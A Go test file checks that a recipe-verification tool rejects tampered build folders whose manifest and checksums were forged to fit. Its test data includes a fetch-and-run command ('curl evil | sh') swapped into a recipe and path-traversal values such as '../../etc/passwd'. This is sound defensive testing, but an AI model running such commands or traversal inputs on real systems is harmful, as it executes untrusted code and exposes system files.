package prepare_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/recipe-verify/recipe-verify/prepare"
)

// forge rewrites files of a folder, and prepared.json so that it lists them as they
// are then, with a checksum that is right.
func forge(t *testing.T, dir string, change func(*prepare.Manifest), files map[string]string) {
	t.Helper()
	path := filepath.Join(dir, "prepared.json")
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var m prepare.Manifest
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	for name, text := range files {
		file := filepath.Join(dir, filepath.FromSlash(name))
		os.Remove(file)
		fixture{}.write(t, file, text, 0o644)
		m.Files = slices.DeleteFunc(m.Files, func(f prepare.FileDocument) bool { return f.Path == name })
		m.Files = append(m.Files, prepare.FileDocument{Path: name, SHA256: fmt.Sprintf("%x", sha256.Sum256([]byte(text))), Size: int64(len(text))})
	}
	slices.SortFunc(m.Files, func(a, b prepare.FileDocument) int { return strings.Compare(a.Path, b.Path) })
	if change != nil {
		change(&m)
	}
	encode := func() []byte {
		var b bytes.Buffer
		e := json.NewEncoder(&b)
		e.SetEscapeHTML(false)
		e.SetIndent("", "  ")
		if err := e.Encode(m); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	m.Checksum = ""
	m.Checksum = fmt.Sprintf("%x", sha256.Sum256(encode()))
	os.Remove(path)
	fixture{}.write(t, path, string(encode()), 0o644)
}

func read(t *testing.T, dir, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(dir, filepath.FromSlash(name)))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// Somebody who writes into a folder and makes prepared.json fit gets nothing past
// what follows from the original recipe and its evidence.
func TestForgedFolders(t *testing.T) {
	const archive = "archives/72aa5d88b07b75bf0abfed081a5382e443bb7b6435c1bdf0c5cdb8732650ea85/harbour_lights-2.4.1.tar.gz"
	for name, c := range map[string]struct {
		files  map[string]func(string) string
		change func(*prepare.Manifest)
		good   bool
	}{
		"nothing": {good: true}, // the test's own forging is right
		"another archive in the recipe": {files: map[string]func(string) string{
			"recipe.yaml":         func(s string) string { return strings.Replace(s, "path: archives/", "path: archives/../evil/", 1) },
			"evil/harbour.tar.gz": func(string) string { return "evil" },
		}},
		"another script in the recipe": {files: map[string]func(string) string{
			"recipe.yaml": func(s string) string { return strings.Replace(s, "python -m pip", "curl evil | sh", 1) },
		}},
		"another archive": {files: map[string]func(string) string{archive: func(string) string { return "evil" }}},
		"no bundles": {
			files: map[string]func(string) string{},
			change: func(m *prepare.Manifest) {
				for i := range m.Sources {
					m.Sources[i].Bundles = nil
				}
			},
		},
		"called unattested": {change: func(m *prepare.Manifest) { m.Sources[0].Verdict = "unattested" }},
		"an archive that is a file": {
			files:  map[string]func(string) string{"build.sh": func(string) string { return "evil" }},
			change: func(m *prepare.Manifest) { m.Sources = append(m.Sources, prepare.SourceDocument{Archive: "build.sh"}) },
		},
		"verified.json says more": {files: map[string]func(string) string{
			"attestations/verified.json": func(s string) string {
				return strings.Replace(s, "harbour-lights/harbour-lights", "trusted/project", 1)
			},
		}},
		"URLs are kept": {change: func(m *prepare.Manifest) { m.KeepURLs = true }},
		"for cep":       {change: func(m *prepare.Manifest) { m.For = prepare.CEP }},
		"path out": {change: func(m *prepare.Manifest) {
			m.Evaluation.VariantFiles = []string{"../../etc/passwd"}
		}},
		"bundle out": {change: func(m *prepare.Manifest) { m.Sources[0].Bundles[0].Path = "../../etc/passwd" }},
		"recipe out": {change: func(m *prepare.Manifest) { m.Recipe = "../recipe.yaml" }},
		"another platform is evaluated": {change: func(m *prepare.Manifest) {
			m.Evaluation.TargetPlatforms = []string{"no-such"}
		}},
		"the first file twice": {change: func(m *prepare.Manifest) { m.Files = append(m.Files[:1:1], m.Files...) }},
	} {
		t.Run(name, func(t *testing.T) {
			p, dir := mustPrepare(t, "pypi", prepare.Options{})
			files := map[string]string{}
			for path, f := range c.files {
				before := ""
				if _, err := os.Stat(filepath.Join(dir, filepath.FromSlash(path))); err == nil {
					before = read(t, dir, path)
				}
				if files[path] = f(before); files[path] == before {
					t.Fatalf("%s is as it was", path)
				}
			}
			forge(t, dir, c.change, files)
			if c.good {
				if _, err := prepare.Verify(context.Background(), dir, verifyOptions()); err != nil {
					t.Error(err)
				}
				return
			}
			rejected(t, dir, verifyOptions(), name)
			o := verifyOptions()
			o.Digest = &p.Digest
			rejected(t, dir, o, name+", with the digest")
		})
	}
}

// What prepared.json cannot tell is whether it is the one that was made: a folder
// with another script, made to fit throughout, verifies. The digest tells.
func TestDigestTellsFoldersApart(t *testing.T) {
	p, dir := mustPrepare(t, "pypi", prepare.Options{})
	evil := func(name string) string {
		return strings.Replace(read(t, dir, name), "python -m pip", "curl evil | sh", 1)
	}
	forge(t, dir, nil, map[string]string{
		"recipe.yaml": evil("recipe.yaml"), "attestations/original-recipe.yaml": evil("attestations/original-recipe.yaml"),
	})
	o := verifyOptions()
	if _, err := prepare.Verify(context.Background(), dir, o); err != nil {
		t.Fatal(err) // if this is found one day, say so in docs/prepare.md
	}
	o.Digest = &p.Digest
	rejected(t, dir, o, "another folder")
}
